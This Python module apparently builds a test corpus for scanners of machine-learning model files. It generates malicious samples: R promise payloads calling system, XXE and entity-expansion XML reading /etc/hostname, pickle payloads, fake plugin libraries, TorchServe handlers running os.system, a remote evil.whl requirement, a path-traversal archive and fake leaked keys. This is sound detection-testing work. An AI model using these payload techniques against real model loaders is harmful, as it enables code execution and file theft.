"""Formats that few scanners read (boosters, R, PMML, OpenVINO, Core ML, TensorRT, Flax, TorchServe), programs, secrets."""

from __future__ import annotations

import gzip
import json
import struct
from collections.abc import Iterator

from benchmarks.corpus.programs import evil, torch_zip, zipped
from benchmarks.corpus.protobuf import field
from benchmarks.corpus.sample import Group, Sample

XML = b'<?xml version="1.0"?>\n'


def boosters() -> Iterator[Sample]:
    """Models of gradient boosters with sizes and indices that their native loaders trust."""
    tree = {
        "left_children": [900000],
        "right_children": [-5],
        "parents": [2147483647],
        "split_indices": [99999999],
        "split_conditions": [0.0],
        "split_type": [0],
        "default_left": [0],
        "base_weights": [0.0],
        "id": 0,
        "tree_param": {"num_nodes": "999999999", "num_feature": "1", "size_leaf_vector": "0", "num_deleted": "0"},
    }
    model = {
        "version": [2, 1, 0],
        "learner": {
            "gradient_booster": {
                "name": "gbtree",
                "model": {
                    "gbtree_model_param": {"num_trees": "1", "num_parallel_tree": "1"},
                    "trees": [tree],
                    "tree_info": [0],
                },
            },
            "learner_model_param": {"num_feature": "1", "num_class": "0", "base_score": "0.5"},
            "objective": {"name": "reg:squarederror"},
        },
    }
    yield Sample("xgboost.json", json.dumps(model).encode())
    yield Sample("xgboost-negative.ubj", b"{L\xff\xff\xff\xff\xff\xff\xff\xf0learner{" + bytes(40))
    yield Sample("xgboost-length.ubj", b"{L\0\0\0\0\0\0\0\x07learner[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff" + bytes(40))
    yield Sample("xgboost-pickle.ubj", evil(2))
    yield Sample("xgboost-old.model", b"binf" + struct.pack("<f", 0.5) + b"\xff" * 132)
    lines = [
        "tree",
        "version=v4",
        "num_class=1",
        "max_feature_idx=0",
        "feature_names=a",
        "tree_sizes=999999999",
        "",
        "Tree=0",
        "num_leaves=1000000000",
        "num_cat=0",
        "split_feature=99999",
        "left_child=-99999",
        "right_child=5000",
        "",
        "end of trees",
        "",
    ]
    yield Sample("lightgbm.txt", "\n".join(lines).encode())
    yield Sample("catboost.cbm", b"CBM1" + struct.pack("<I", 0xFFFFFFF0) + bytes(64))
    yield Sample("catboost-pickle.cbm", b"CBM1" + struct.pack("<I", 16) + bytes(16) + evil(2))


def r_data() -> Iterator[Sample]:
    """R's serialisation: a promise is code that runs when the value is touched."""
    symbol = struct.pack(">i", 1) + struct.pack(">ii", 0x00040009, 6) + b"system"
    text = struct.pack(">ii", 0x10, 1) + struct.pack(">ii", 0x00040009, 4) + b"true"
    code = struct.pack(">i", 6) + symbol + struct.pack(">i", 2) + text + struct.pack(">i", 0xFE)
    promise = struct.pack(">i", 5) + struct.pack(">i", 0xFB) + code
    head = b"X\n" + struct.pack(">iii", 2, 0x00040301, 0x00020300)
    yield Sample("promise.rds", gzip.compress(head + promise, mtime=0))
    yield Sample("promise-plain.rds", head + promise)
    yield Sample(
        "promise.RData", gzip.compress(b"RDX2\n" + head + struct.pack(">i", 0x402) + symbol + promise, mtime=0)
    )
    bytecode = struct.pack(">i", 21) + struct.pack(">i", 1) + code
    yield Sample("bytecode.rds", gzip.compress(head + bytecode, mtime=0))


def markup() -> Iterator[Sample]:
    """XML that reads files, and graphs that ask for a native extension."""
    doctype = b'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
    laughs = b'<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>\n'
    yield Sample("xxe.pmml", XML + doctype + b'<PMML version="4.4"><Header copyright="&x;"/></PMML>')
    yield Sample("laughs.pmml", XML + laughs + b'<PMML version="4.4"><Header copyright="&c;"/></PMML>')
    yield Sample(
        "parameter-entity.pmml", XML + b'<!DOCTYPE P [<!ENTITY % x SYSTEM "http://example.com/x.dtd"> %x;]><PMML/>'
    )
    yield Sample(
        "extension.pmml", XML + b'<PMML version="4.4"><Extension name="script" value="java.lang.Runtime"/></PMML>'
    )
    layer = b'<layer id="0" name="x" type="{0}" version="{1}"><data{2}/></layer>'

    def openvino(kind: bytes, version: bytes = b"extension", data: bytes = b"") -> bytes:
        body = layer.replace(b"{0}", kind).replace(b"{1}", version).replace(b"{2}", data)
        return XML + b'<net name="m" version="11"><layers>' + body + b"</layers><edges/></net>"

    yield Sample("openvino-extension", {"model.xml": openvino(b"EvilOp"), "model.bin": bytes(64)})
    yield Sample("openvino-alone.xml", openvino(b"EvilOp", b"custom_opset"))
    yield Sample(
        "openvino-offset",
        {
            "model.xml": openvino(b"Const", b"opset1", b' offset="0" size="999999999999" element_type="f32"'),
            "model.bin": bytes(64),
        },
    )
    yield Sample(
        "openvino-entity.xml",
        XML + b'<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/hostname">]><net name="&x;" version="11"/>',
    )


def native() -> Iterator[Sample]:
    """Core ML, TensorRT, Flax, and programs where weights are expected."""
    custom = field(1, 6) + field(555, field(10, "EvilModel"))
    yield Sample("custom.mlmodel", custom)
    layer = field(1, "x") + field(500, field(10, "EvilLayer"))
    yield Sample("custom-layer.mlmodel", field(1, 6) + field(500, field(1, layer)))
    yield Sample(
        "plugin.engine",
        b"ptrt" + bytes(20) + b"\x06\0\0\0EvilPlugin_TRT\0IPluginV2DynamicExt\0./libevil.so\0" + bytes(64),
    )
    yield Sample("plugin.trt", b"ftrt" + bytes(24) + b"EvilPlugin\0libevil.so\0" + bytes(64))
    yield Sample("pickle.plan", evil(2))
    yield Sample("extension.msgpack", b"\x81\xa1w\xc7\x10\x63" + evil(2)[:16])
    yield Sample("pickle-in.msgpack", b"\x81\xa1w\xc4" + bytes([len(evil(2))]) + evil(2))
    yield Sample("length.msgpack", b"\x81\xa1w\xc6\xff\xff\xff\xff" + bytes(20))
    yield Sample("pickle.msgpack", evil(4))
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)
    yield Sample("elf.bin", elf)
    yield Sample("elf.safetensors", elf)
    yield Sample("elf-no-suffix/pytorch_model.bin", elf)
    windows = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(200)
    yield Sample("windows.bin", windows)
    yield Sample("windows.ckpt", windows)
    yield Sample("macho.pt", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(200))
    yield Sample(
        "ape.llamafile",
        b"MZqFpD='\n" + bytes(100) + zipped({"model.gguf": b"GGUF" + bytes(60), ".args": b"-m\nmodel.gguf\n"}),
    )
    yield Sample("script.pt", b"#!/bin/sh\ntrue\n")


def servers() -> Iterator[Sample]:
    """TorchServe archives and other bundles that carry a handler."""
    manifest = {
        "createdOn": "",
        "runtime": "python",
        "model": {"modelName": "x", "handler": "handler.py", "modelVersion": "1"},
    }
    handler = b"import os\n\ndef handle(data, context):\n    os.system('true')\n"
    yield Sample(
        "handler.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
                "handler.py": handler,
                "model.pt": torch_zip(b"\x80\x02}."),
            }
        ),
    )
    yield Sample(
        "pickle.mar",
        zipped(
            {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "handler.py": b"", "model.pt": torch_zip(evil(2))}
        ),
    )
    manifest["model"]["requirementsFile"] = "requirements.txt"  # type: ignore[index]
    yield Sample(
        "requirements.mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": json.dumps(manifest).encode(),
                "requirements.txt": b"http://example.com/evil.whl\n",
                "handler.py": handler,
            }
        ),
    )
    yield Sample("traversal.mar", zipped({"MAR-INF/MANIFEST.json": b"{}", "../../evil.py": b"print(1)\n"}))


def secrets() -> Iterator[Sample]:
    """Keys and tokens that were left in a repository; none was ever valid."""
    yield Sample(
        "hub/train.py",
        b'import huggingface_hub\nhuggingface_hub.login("hf_' + b"AbCdEfGhIjKlMnOpQrStUvWxYz01234567" + b'")\n',
    )
    yield Sample(
        "aws/config.yaml",
        b"aws_access_key_id: AKIA" + b"QWERTYUIOPASDFGH\naws_secret_access_key: "
        b"wJalrXUtnFEMIK7MDENGbPxRfiCYzqT4bV9xLm2p\n",
    )
    yield Sample("openai/.env", b"OPENAI_API_KEY=sk-proj-" + b"Zx8Kq2Lm9Np4Rt6Vw1Yb3Dc5Fg7Hj0KlZx8Kq2Lm9Np4Rt6V\n")
    yield Sample("github/run.sh", b"export GITHUB_TOKEN=ghp_" + b"a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8\n")
    key = b"-----BEGIN RSA " + b"PRIVATE KEY-----\nMIIEpAIBAAKCAQEAx0VbTq9W3m6Yd1o2\n-----END RSA PRIVATE KEY-----\n"
    yield Sample("private-key/id_rsa", key)
    yield Sample(
        "google/service.json",
        json.dumps(
            {
                "type": "service_account",
                "project_id": "x",
                "private_key_id": "0123456789abcdef",
                "private_key": "-----BEGIN "
                + "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n",
                "client_email": "x@y.iam.gserviceaccount.com",
            }
        ).encode(),
    )
    yield Sample(
        "slack/README.md", b"# Model\n\nNotify with xoxb-" + b"123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx\n"
    )
    yield Sample(
        "wandb/config.json",
        json.dumps({"model_type": "bert", "api_key": "hf_" + "ZyXwVuTsRqPoNmLkJiHgFeDcBa98765432"}).encode(),
    )


GROUPS = (
    Group("boosters", boosters),
    Group("r-data", r_data, "CVE-2024-27322"),
    Group("pmml-openvino", markup),
    Group("native-formats", native),
    Group("serving-bundles", servers),
    Group("secrets", secrets),
)
